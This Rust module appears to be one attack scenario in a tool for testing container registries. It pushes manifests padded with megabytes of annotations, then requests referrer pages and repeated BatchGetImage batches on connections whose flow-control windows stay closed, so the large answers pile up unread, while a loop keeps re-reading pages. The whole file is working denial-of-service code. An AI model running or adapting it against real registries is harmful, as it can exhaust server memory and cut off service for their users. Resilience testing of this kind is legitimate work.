//! Small requests with large answers that are never read: a page of referrers with megabytes of annotations, and one
//! manifest of 4 MiB requested eight times.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures::future::join_all;
use http::Request;
use serde_json::{Value, json};
use tokio::time::{sleep, timeout};

use super::attack::Scale;
use super::content::{self, Image, MANIFEST, MIB};
use super::outcome::Check;
use super::sign::Service;
use super::site::{ABUSED, Site};
use super::streams::{Streams, whole};

const REFERRERS: usize = 10;
const PAGES: usize = 10;
const BATCHES: usize = 40;
const TIMES: usize = 8;
/// The pause between two pages that are read.
const PAUSE: Duration = Duration::from_millis(500);
const LARGE: &str = "large";

/// Pushes an image, the manifests that refer to it, and the large one.
pub(super) async fn prepare(site: &Site) -> Result<()> {
    let mut client = site.attacker();
    let (host, basic) = (&site.host, &site.writer.basic);
    let image = content::push_image(&mut client, host, basic, ABUSED).await?;
    for number in 0..REFERRERS {
        let bytes = annotated(&image, &number.to_string(), 3 * MIB, true);
        let digest = content::sha256(&bytes);
        content::push_manifest(&mut client, host, basic, ABUSED, &digest, bytes).await?;
    }
    let large = annotated(&image, LARGE, 4 * MIB - 4096, false);
    content::push_manifest(&mut client, host, basic, ABUSED, LARGE, large).await
}

/// An image with annotations of this size; it may refer to the image.
fn annotated(image: &Image, name: &str, size: usize, refers: bool) -> Bytes {
    let mut manifest = image.manifest.clone();
    let Value::Object(members) = &mut manifest else { return Bytes::new() };
    members.insert("annotations".to_owned(), json!({"name": name, "text": "n".repeat(size)}));
    if refers {
        let subject = json!({"mediaType": MANIFEST, "digest": image.digest, "size": image.length});
        members.insert("subject".to_owned(), subject);
        members.insert("artifactType".to_owned(), json!("application/vnd.example.note"));
    }
    manifest.to_string().into()
}

/// Requests all of it on two connections with closed windows, and pages on connections that are read.
pub(super) async fn run(site: Arc<Site>, scale: Scale) -> Result<Vec<Check>> {
    let held = async { tokio::join!(pages(&site), batches(&site), readers(&site)) };
    let _ = timeout(scale.hold(), held).await;
    Ok(Vec::new())
}

fn page(site: &Site) -> Result<Request<Bytes>> {
    let path = format!("/v2/{ABUSED}/referrers/{}", site.image.digest);
    site.data(&site.writer, http::Method::GET, &path)
}

async fn pages(site: &Site) -> Result<()> {
    let connection = Streams::open(site.attack_route(), 0).await?;
    let asked = (0..PAGES).map(|_| async { connection.send(page(site)?.map(whole)).await });
    let _answers = join_all(asked).await;
    std::future::pending().await
}

async fn batches(site: &Site) -> Result<()> {
    let ids = vec![json!({"imageTag": LARGE}); TIMES];
    let body = json!({"repositoryName": ABUSED, "imageIds": ids}).to_string();
    let connection = Streams::open(site.attack_route(), 0).await?;
    let asked = (0..BATCHES).map(|_| async {
        let key = &site.writer.key;
        let request = key.json(&site.host, Service::Ecr, "BatchGetImage", body.clone().into())?;
        connection.send(request.map(whole)).await
    });
    let _answers = join_all(asked).await;
    std::future::pending().await
}

async fn readers(site: &Site) -> Result<()> {
    let mut client = site.attacker();
    loop {
        let _ = client.ask(page(site)?).await;
        sleep(PAUSE).await;
    }
}
